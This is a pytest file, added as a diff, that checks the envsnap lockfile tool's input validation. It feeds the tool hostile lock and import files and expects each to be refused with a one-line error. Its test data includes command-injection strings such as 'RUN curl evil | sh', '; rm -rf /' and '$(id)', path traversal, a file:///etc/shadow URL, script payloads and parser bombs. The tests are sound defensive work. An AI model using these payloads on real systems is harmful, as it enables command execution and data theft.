@@ -1,0 +1,337 @@
+"""A lock or a file to import from a stranger: read within limits, every field checked against its grammar at
+the boundary, so every command answers hostile input with one line and exit 2 (docs/security.md)."""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+import tomli_w
+
+from envsnap import lockfile
+from envsnap.model import (
+    Artifact,
+    Conda,
+    CondaPackage,
+    Cpu,
+    Gpu,
+    Hardware,
+    Meta,
+    Platform,
+    PythonEnv,
+    PythonPackage,
+    Snapshot,
+    Source,
+    System,
+    SystemPackage,
+)
+
+REPO = Path(__file__).resolve().parents[2]
+SHA = "ab" * 32
+WHEEL = "demo-1.0-py3-none-any.whl"
+
+
+def base() -> Snapshot:
+    """A small valid lock with every table a mutation below needs."""
+    return Snapshot(
+        envsnap=Meta(generator="envsnap 0.1.0", created="2026-11-30T08:00:00Z"),
+        platform=Platform(system="Linux", machine="x86_64", os_id="debian", os_version="12", libc="glibc",
+                          libc_version="2.36"),
+        python=PythonEnv(
+            implementation="cpython", version="3.11.7", abi="cp311", kind="venv", executable="bin/python3",
+            packages=(
+                PythonPackage(name="demo", version="1.0", installer="pip",
+                              artifact=Artifact(filename=WHEEL, url=f"https://files.example.org/{WHEEL}",
+                                                sha256=SHA, size=1000)),
+                PythonPackage(name="other", version="2.0", installer="pip"),
+            ),
+        ),
+        system=System(manager="dpkg", packages=(SystemPackage(manager="dpkg", name="libc6", version="2.36-9",
+                                                              arch="amd64"),)),
+        hardware=Hardware(memory_mib=1024, cpu=Cpu(arch="x86_64", logical_cores=2),
+                          gpus=(Gpu(index=0, name="GPU", memory_mib=8192),)),
+        conda=Conda(subdir="linux-64", packages=(CondaPackage(
+            name="zlib", version="1.3", build="h0_0", channel="https://conda.example.org/forge",
+            subdir="linux-64", url="https://conda.example.org/forge/linux-64/zlib-1.3-h0_0.conda", md5="0" * 32),)),
+    )
+
+
+def write_lock(path: Path, mutate: Callable[[dict[str, Any]], None] | None = None) -> Path:
+    """The base lock's document, changed by ``mutate`` and sealed again: an attacker can recompute the digest,
+    so only the field checks stand between the file and the commands."""
+    doc = lockfile.sealed_document(base())
+    if mutate is not None:
+        mutate(doc)
+        doc["envsnap"]["content_digest"] = lockfile.canonical_digest(doc)
+    path.write_text(tomli_w.dumps(doc), encoding="utf-8")
+    return path
+
+
+def one_line_exit_2(result: Any, *needles: str) -> None:
+    assert result.code == 2, result
+    assert result.err.count("\n") == 1 and result.err.startswith("envsnap: error: "), result
+    assert "Traceback" not in result.err
+    for needle in needles:
+        assert needle in result.err, result
+
+
+def pkg(doc: dict[str, Any], i: int = 0) -> dict[str, Any]:
+    package: dict[str, Any] = doc["python"]["packages"][i]
+    return package
+
+
+# ------------------------------------------------------------------------------------------ bounded reading
+
+
+def _run(*args: str, timeout: float = 60, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    environ = {**os.environ, "PYTHONPATH": str(REPO), **(env or {})}
+    return subprocess.run([sys.executable, "-m", "envsnap", *args], capture_output=True, text=True,
+                          timeout=timeout, env=environ)
+
+
+def test_a_fifo_is_refused_without_hanging(tmp_path: Path) -> None:
+    fifo = tmp_path / "envsnap.lock"
+    os.mkfifo(fifo)
+    done = _run("show", str(fifo), timeout=60)  # the old reader blocked forever on open()
+    assert done.returncode == 2 and "not a regular file" in done.stderr and done.stderr.count("\n") == 1
+
+
+def test_an_endless_device_is_refused_without_reading_it() -> None:
+    done = _run("show", "/dev/zero", timeout=60)  # the old reader read until memory ran out
+    assert done.returncode == 2 and "not a regular file" in done.stderr
+
+
+def test_a_lock_over_the_size_limit_is_refused(tmp_path: Path, cli: Callable[..., Any],
+                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    path = write_lock(tmp_path / "envsnap.lock")
+    assert cli("show", path).code == 0
+    monkeypatch.setenv("ENVSNAP_MAX_LOCK_BYTES", "500")
+    one_line_exit_2(cli("show", path), "over the limit of 500 bytes", "ENVSNAP_MAX_LOCK_BYTES")
+    monkeypatch.setenv("ENVSNAP_MAX_LOCK_BYTES", "lots")
+    one_line_exit_2(cli("show", path), "ENVSNAP_MAX_LOCK_BYTES='lots': not a positive number of bytes")
+
+
+def test_an_import_file_over_the_size_limit_is_refused(tmp_path: Path, cli: Callable[..., Any],
+                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+    path = tmp_path / "requirements.txt"
+    path.write_text("demo==1.0 --hash=sha256:" + SHA + "\n" + "# padding\n" * 100)
+    monkeypatch.setenv("ENVSNAP_MAX_LOCK_BYTES", "200")
+    one_line_exit_2(cli("import", path, "-o", tmp_path / "out.lock"), "over the limit of 200 bytes")
+
+
+# ------------------------------------------------------------------------- parser bombs before tomllib
+
+
+def test_a_dotted_key_bomb_is_refused_quickly(tmp_path: Path, cli: Callable[..., Any]) -> None:
+    path = tmp_path / "envsnap.lock"
+    path.write_text("a" + ".a" * 20_000 + " = 1\n")  # 40 KB: 15 s and 2.4 GB in tomllib
+    start = time.monotonic()
+    one_line_exit_2(cli("show", path), "a dotted key of more than 16 parts")
+    assert time.monotonic() - start < 5
+
+
+@pytest.mark.parametrize("value", ["[" * 3000 + "]" * 3000, "{a=" * 3000 + "1" + "}" * 3000])
+def test_deep_nesting_is_refused(tmp_path: Path, cli: Callable[..., Any], value: str) -> None:
+    path = tmp_path / "envsnap.lock"
+    path.write_text(f"x = {value}\n")  # RecursionError in tomllib
+    one_line_exit_2(cli("check", path), "nested more than 32 levels deep")
+
+
+def test_a_number_of_thousands_of_digits_is_refused(tmp_path: Path, cli: Callable[..., Any]) -> None:
+    path = write_lock(tmp_path / "envsnap.lock")
+    text = path.read_text().replace("memory_mib = 1024", "memory_mib = " + "9" * 5000)
+    path.write_text(text)
+    one_line_exit_2(cli("show", path), "a number of more than 64 digits")
+
+
+def test_quotes_and_comments_do_not_fool_the_guard(tmp_path: Path, cli: Callable[..., Any]) -> None:
+    # Brackets and dots inside strings and comments are not structure: a valid lock holding many stays valid.
+    def many(doc: dict[str, Any]) -> None:
+        doc["envsnap"]["warnings"] = ["[" * 100 + "." * 100 + "9" * 100]
+
+    path = write_lock(tmp_path / "envsnap.lock", many)
+    path.write_text(path.read_text() + "# " + "[" * 100 + "\n")
+    assert cli("show", path).code == 0
+
+
+# ---------------------------------------------------------------------------------------- field grammar
+
+
+@pytest.mark.parametrize(("mutate", "needle"), [
+    (lambda d: pkg(d).update(version="1.0\n--find-links http://127.0.0.1:8000/"),
+     "python.packages[0].version: not a valid version"),
+    (lambda d: pkg(d).update(name="demo\x00x"), "python.packages[0].name: not a valid distribution name"),
+    (lambda d: pkg(d).update(name="Demo_Pkg"), "python.packages[0].name: not a valid distribution name"),
+    (lambda d: pkg(d)["artifact"].update(filename="../../../../.bashrc"),
+     "python.packages[0].artifact.filename: not a valid file name"),
+    (lambda d: pkg(d)["artifact"].update(filename="x/../../evil-1.0-py3-none-any.whl"),
+     "artifact.filename: not a valid file name"),
+    (lambda d: pkg(d)["artifact"].update(sha256="AB" * 32), "artifact.sha256: not a valid sha256"),
+    (lambda d: pkg(d)["artifact"].update(url="file:///etc/shadow\n"), "artifact.url: not a valid URL"),
+    (lambda d: pkg(d)["artifact"].update(url="javascript:alert(1)"), "artifact.url: not a valid URL"),
+    (lambda d: pkg(d)["artifact"].update(size=10**30), "artifact.size: not a valid number"),
+    (lambda d: d["hardware"].update(memory_mib=2**62), "hardware.memory_mib: not a valid number"),
+    (lambda d: d["hardware"]["gpus"][0].update(memory_mib=-1), "hardware.gpus[0].memory_mib"),
+    (lambda d: d["envsnap"].update(created='2026\nRUN curl evil | sh\n#'), "envsnap.created: not a valid timestamp"),
+    (lambda d: d["envsnap"].update(generator="<script>alert(1)</script>"), "envsnap.generator"),
+    (lambda d: d["python"].update(version="--mirror=http://127.0.0.1:9/"), "python.version: not a valid Python"),
+    (lambda d: d["python"].update(version="tools/python3.11"), "python.version: not a valid Python"),
+    (lambda d: d["python"].update(kind="venv\nRUN id"), "python.kind: not a valid value (one of"),
+    (lambda d: pkg(d).update(source={"kind": "tarball"}), "python.packages[0].source.kind"),
+    (lambda d: pkg(d).update(source={"kind": "vcs", "url": "https://example.org/x.git", "vcs": "git",
+                                     "commit_id": "--upload-pack=touch /tmp/x"}), "source.commit_id"),
+    (lambda d: pkg(d).update(source={"kind": "vcs", "url": "https://example.org/x.git", "vcs": "git",
+                                     "commit_id": "a" * 40, "subdirectory": "../../etc"}), "source.subdirectory"),
+    (lambda d: pkg(d).update(wheel_tags=["py3-none-any\n"]), "python.packages[0].wheel_tags[0]"),
+    (lambda d: d["system"]["packages"][0].update(version="2.36 ; rm -rf /"), "system.packages[0].version"),
+    (lambda d: d["system"]["packages"][0].update(manager="pacman"), "system.packages[0].manager"),
+    (lambda d: d["conda"]["packages"][0].update(md5="x" * 32), "conda.packages[0].md5"),
+    (lambda d: d["conda"]["packages"][0].update(subdir="linux-64\n@EXPLICIT"), "conda.packages[0].subdir"),
+    (lambda d: d["conda"]["packages"][0].update(noarch="anything"), "conda.packages[0].noarch"),
+    (lambda d: d["conda"]["packages"][0].update(build_number=2**63), "conda.packages[0].build_number"),
+    (lambda d: d.update(environment={"A B": "1"}), "environment: not a valid variable name"),
+    (lambda d: d.update(environment={"X": "\x1b]8;;https://evil/\x1b\\"}), "environment.X: not a valid text"),
+    (lambda d: d["platform"].update(kernel="6.1[/]"), "platform.kernel"),
+])
+def test_a_field_outside_its_grammar_is_named_by_path(tmp_path: Path, cli: Callable[..., Any],
+                                                       mutate: Callable[[dict[str, Any]], None],
+                                                       needle: str) -> None:
+    path = write_lock(tmp_path / "envsnap.lock", mutate)
+    result = cli("show", path)
+    one_line_exit_2(result, needle)
+    assert "\x1b" not in result.err and "\x00" not in result.err  # shown escaped, never raw
+
+
+@pytest.mark.parametrize("command", [
+    ["show"], ["show", "--json"], ["check"], ["export", "-f", "requirements", "-o", "-"],
+    ["export", "-f", "markdown", "-o", "-"], ["export", "-f", "pylock", "-o", "-"],
+    ["rebuild", "--dry-run", "--target", "venv"], ["pin", "-o", "/dev/null"],
+])
+def test_a_nul_in_a_name_is_one_line_in_every_command(tmp_path: Path, cli: Callable[..., Any],
+                                                      command: list[str]) -> None:
+    # "embedded null byte" tracebacks in pin and the exports before
+    path = write_lock(tmp_path / "envsnap.lock", lambda d: pkg(d)["artifact"].update(filename="demo\x00.whl"))
+    one_line_exit_2(cli(*command[:1], path, *command[1:]), "artifact.filename")
+
+
+@pytest.mark.parametrize("command", [["export", "-f", "markdown", "-o", "-"], ["check"], ["show"]])
+def test_a_huge_integer_is_one_line_not_an_overflow(tmp_path: Path, cli: Callable[..., Any],
+                                                    command: list[str]) -> None:
+    # OverflowError in the appendix and the disk rules before
+    path = write_lock(tmp_path / "envsnap.lock", lambda d: pkg(d)["artifact"].update(size=10**40))
+    one_line_exit_2(cli(*command[:1], path, *command[1:]), "python.packages[0].artifact.size")
+
+
+@pytest.mark.parametrize(("mutate", "needle"), [
+    (lambda d: d["python"]["packages"].append(dict(pkg(d))), "python.packages[2]: package 'demo' appears twice"),
+    (lambda d: d["system"]["packages"].append(dict(d["system"]["packages"][0])), "system package"),
+    (lambda d: d["hardware"]["gpus"].append({"index": 0}), "hardware.gpus[1]: GPU index '0' appears twice"),
+    (lambda d: d["conda"]["packages"].append(dict(d["conda"]["packages"][0])), "conda package 'zlib'"),
+    (lambda d: d.update(frameworks={"torch": {"name": "jax"}}), "frameworks.torch.name"),
+])
+def test_duplicates_are_refused(tmp_path: Path, cli: Callable[..., Any], mutate: Callable[[dict[str, Any]], None],
+                                needle: str) -> None:
+    path = write_lock(tmp_path / "envsnap.lock", mutate)
+    for command in (["show"], ["export", "-f", "requirements", "-o", "-"]):
+        one_line_exit_2(cli(command[0], path, *command[1:]), needle)
+
+
+def test_created_is_outside_the_digest_but_still_checked(tmp_path: Path, cli: Callable[..., Any]) -> None:
+    path = write_lock(tmp_path / "envsnap.lock")
+    text = path.read_text()
+    # A later time keeps the digest (created is not sealed); a line break is refused, sealed or not.
+    path.write_text(text.replace('created = "2026-11-30T08:00:00Z"', 'created = "2027-01-01T00:00:00+01:00"'))
+    assert cli("show", path).code == 0
+    path.write_text(text.replace('created = "2026-11-30T08:00:00Z"', 'created = "2026\\nRUN id"'))
+    one_line_exit_2(cli("show", path), "envsnap.created: not a valid timestamp", "'2026\\nRUN id'")
+
+
+# ------------------------------------------------------------------------------------- legacy versions
+
+
+def test_a_legacy_version_is_kept_but_never_pinned_or_rebuilt(tmp_path: Path, cli: Callable[..., Any]) -> None:
+    path = write_lock(tmp_path / "envsnap.lock", lambda d: pkg(d, 1).update(version="2.0-beta_final"))
+    lock = lockfile.load(path)
+    other = lock.package("other")
+    assert other is not None and other.legacy_version and other.version == "2.0-beta_final"
+    demo = lock.package("demo")
+    assert demo is not None and not demo.legacy_version
+    assert cli("show", path).code == 0
+    one_line_exit_2(cli("rebuild", path, "--dry-run", "--target", "venv", "--dest", tmp_path / "env"),
+                    "other '2.0-beta_final': not a PEP 440 version")
+
+
+def test_pin_reports_a_legacy_version_unpinned_without_asking_an_index() -> None:
+    from envsnap.pin import Pinner
+
+    lock = base()
+    legacy = dataclasses.replace(lock.python.packages[1], version="2.0-beta_final")
+    outcome = Pinner.pin_one(object.__new__(Pinner), legacy)  # no index is configured: none may be asked
+    assert outcome.status == "unpinned" and "not a PEP 440 version" in outcome.reason
+
+
+# ------------------------------------------------------------------------------------------- importers
+
+
+@pytest.mark.parametrize(("name", "text", "needle"), [
+    ("pylock.toml", "lock-version = '1.0'\n[[packages]]\nname = 'a'\nx = " + "[" * 3000 + "]" * 3000,
+     "nested more than 32 levels deep"),
+    ("pylock.toml", "lock-version = '1.0'\n" + "a" + ".a" * 20_000 + " = 1\n[[packages]]\n",
+     "a dotted key of more than 16 parts"),
+    ("envsnap.lock.json", '{"envsnap": {"schema_version": 1}, "x": ' + "[" * 3000 + "]" * 3000 + "}",
+     "nested more than 32 levels deep"),
+    ("envsnap.lock.json", '{"envsnap": {"schema_version": 1, "schema_version": 1}}', "appears twice"),
+    ("conda-lock.yml", "version: 1\nmetadata: &a {platforms: [linux-64]}\npackage: []\nx: *a\n"
+                       "manager: conda\n", "aliases (*name) are not allowed"),
+    ("conda-lock.yml", "version: 1\npackage:\n- " + "[" * 200 + "]" * 200 + "\nmanager: x\n",
+     "nested more than 32 levels deep"),
+    ("conda-lock.yml", "version: " + "9" * 5000 + "\npackage: []\nmanager: x\n", "an integer too long"),
+    ("explicit.txt", "@EXPLICIT\nhttps://conda.example.org/c/linux-64/zlib-1.3-h0_0.conda#" + "0" * 32
+                     + "\nhttps://conda.example.org/c/linux-64%0a/x\x1b[31m-1-h_0.conda\n", "conda"),
+    ("requirements.txt", "demo===$(id) --hash=sha256:" + SHA + "\n", "python.packages[0].version"),
+])
+def test_a_hostile_import_file_is_one_line(tmp_path: Path, cli: Callable[..., Any], name: str, text: str,
+                                           needle: str) -> None:
+    path = tmp_path / name
+    path.write_text(text, encoding="utf-8")
+    result = cli("import", path, "-o", tmp_path / "out.lock")
+    one_line_exit_2(result, needle)
+    assert not (tmp_path / "out.lock").exists()
+
+
+def test_an_imported_duplicate_or_bad_value_is_refused(tmp_path: Path, cli: Callable[..., Any]) -> None:
+    # conda explicit: the same package twice (two environments in one?), and a file name with a newline
+    path = tmp_path / "explicit.txt"
+    url = "https://conda.example.org/c/linux-64/zlib-1.3-h0_0.conda#" + "0" * 32
+    path.write_text(f"@EXPLICIT\n{url}\n{url}\n")
+    one_line_exit_2(cli("import", path, "-o", tmp_path / "out.lock"), "conda package 'zlib' appears twice")
+
+
+def test_a_fifo_to_import_is_refused(tmp_path: Path) -> None:
+    fifo = tmp_path / "requirements.txt"
+    os.mkfifo(fifo)
+    done = _run("import", str(fifo), "-o", str(tmp_path / "out.lock"), timeout=60)
+    assert done.returncode == 2 and "not a regular file" in done.stderr
+
+
+def test_every_model_field_has_a_grammar() -> None:
+    import typing
+
+    for cls, rules in lockfile.RULES.items():
+        hints = typing.get_type_hints(cls)
+        for f in dataclasses.fields(cls):
+            tp = hints[f.name]
+            leaf = typing.get_args(tp)[0] if typing.get_origin(tp) is tuple else tp
+            if leaf in (str, int):
+                assert f.name in rules, f"{cls.__name__}.{f.name} has no grammar"
+    covered = set(lockfile.RULES)
+    for cls in (Artifact, Conda, CondaPackage, Cpu, Gpu, Hardware, Meta, Platform, PythonEnv, PythonPackage,
+                Source, System, SystemPackage):
+        assert cls in covered
